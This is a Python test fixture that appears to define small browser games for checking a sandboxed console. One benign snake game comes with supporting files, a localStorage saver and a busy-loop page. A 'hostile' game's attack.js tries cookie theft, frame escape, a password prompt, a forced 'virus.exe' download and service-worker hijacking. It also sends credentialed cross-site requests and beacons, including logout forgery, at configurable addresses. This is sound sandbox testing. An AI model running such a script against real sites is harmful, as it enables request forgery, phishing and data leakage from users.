"""Games for the browser to try: one that attacks whatever it can, and some that only want to play."""

import io
import wave


def _beep():
    file = io.BytesIO()
    with wave.open(file, "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(1)
        sound.setframerate(8000)
        sound.writeframes(bytes(128 + 40 * (at // 8 % 2) for at in range(4000)))
    return file.getvalue()


MODULES = {
    "index.html": """<!doctype html><html><head><meta charset="utf-8"><title>Snake</title></head>
        <body><canvas width="320" height="200"></canvas><script type="module" src="js/main.js"></script></body>
        </html>""",
    "js/main.js": """
        import {draw} from "./draw.js";
        const level = await (await fetch("level 1.json")).json();
        const sound = new Audio("beep.wav");
        await new Promise((done, failed) => { sound.onloadedmetadata = done; sound.onerror = failed; });
        window.pixel = draw(document.querySelector("canvas"), level.colour);
        window.sound = sound.duration;
        """,
    "js/draw.js": """
        export const draw = (canvas, colour) => {
          const pen = canvas.getContext("2d");
          pen.fillStyle = colour;
          pen.fillRect(0, 0, 320, 200);
          return [...pen.getImageData(9, 9, 1, 1).data].join();
        };""",
    "level 1.json": '{"colour": "rgb(1, 200, 30)"}',
    "beep.wav": _beep(),
}

SAVING = {
    "index.html": """<!doctype html><title>Saves</title><p id="score"></p><script>
        try {
          localStorage.score = Number(localStorage.score || 0) + 7;
          score.textContent = `Score ${localStorage.score}`;
        } catch (error) {
          score.textContent = "Cannot save";
        }</script>"""
}

# not quite for ever: no browser closes what loops
BUSY_S = 6
BUSY = {
    "index.html": f"""<!doctype html><p>busy</p><script>
        setTimeout(() => {{ const end = Date.now() + {BUSY_S * 1000}; while (Date.now() < end); }}, 200)</script>"""
}


def hostile(console, elsewhere, verb):
    """A game that tries everything against both addresses and a verb of the console. `window.tried` says in the end
    what came of it.
    """
    targets = f"const targets = ['{console}', '{elsewhere}'], verb = '{verb}';"
    return {
        "index.html": f"<!doctype html><body><script>{targets}</script><script src='attack.js'></script></body>",
        "sw.js": "self.addEventListener('fetch', e => e.respondWith(new Response('ours')))",
        "worker.js": "onmessage = e => { try { importScripts(e.data) } catch {} fetch(e.data).catch(() => {}); }",
        "attack.js": _ATTACK,
    }


_ATTACK = """
const tried = {};
const attempt = async (name, fn) => {
  try { tried[name] = String(await fn()); } catch (error) { tried[name] = `refused: ${error.name}`; }
};
const element = (tag, about) => document.body.appendChild(Object.assign(document.createElement(tag), about));
const post = (action, target) => {
  const form = element("form", {method: "post", action, target});
  form.append(Object.assign(document.createElement("input"), {name: "reason", value: "spam"}));
  form.submit();
};
const reach = async url => {
  await attempt(`fetch ${url}`, () => fetch(url, {credentials: "include"}));
  const silent = {method: "POST", mode: "no-cors", credentials: "include", keepalive: true};
  await attempt(`post ${url}`, () => fetch(url, silent));
  await attempt(`xhr ${url}`, () => {
    const request = new XMLHttpRequest();
    request.open("GET", url, false);
    request.send();
  });
  await attempt(`socket ${url}`, () => new Promise((done, failed) => {
    const socket = new WebSocket(url.replace("http", "ws"));
    socket.onopen = () => done("open");
    socket.onerror = () => failed(new Error());
  }));
  await attempt(`events ${url}`, () => { new EventSource(url); return ""; });
  await attempt(`beacon ${url}`, () => { navigator.sendBeacon(url, "stolen"); return ""; });
  await attempt(`worker ${url}`, () => { new Worker("worker.js").postMessage(url); return ""; });
  for (const tag of ["img", "script", "iframe", "embed", "video"]) element(tag, {src: url});
  element("object", {data: url});
  for (const rel of ["stylesheet", "prefetch", "icon", "manifest"]) element("link", {rel, href: url});
  element("style", {textContent: `@import url(${url}); @font-face { font-family: x; src: url(${url}); }
    body { font-family: x; background: url(${url}); }`});
  for (const target of ["_top", "_parent", "_blank", "_self"]) post(url, target);
  element("a", {href: url, ping: url, target: "_blank"}).click();
};
(async () => {
  const framed = window.top !== window;
  await attempt("cookie", () => document.cookie);
  await attempt("opener", () => window.opener);
  await attempt("parent", () => framed ? parent.document.title : "alone");
  await attempt("frame", () => framed ? window.frameElement.id : "alone");
  await attempt("top", () => { if (framed) top.location = targets[1]; return "alone"; });
  await attempt("open", () => window.open(targets[1]));
  await attempt("dialogs", () => [alert("hello"), confirm("sure?"), prompt("password?")].join());
  element("a", {href: URL.createObjectURL(new Blob(["x"])), download: "virus.exe"}).click();
  await attempt("worker", () => navigator.serviceWorker.register("sw.js"));
  await attempt("fullscreen", () => document.documentElement.requestFullscreen());
  await attempt("place", () => new Promise((...done) => navigator.geolocation.getCurrentPosition(...done)));
  for (const target of targets) await Promise.all(["/accounts/logout/", verb].map(path => reach(target + path)));
  window.tried = tried;
})();
"""
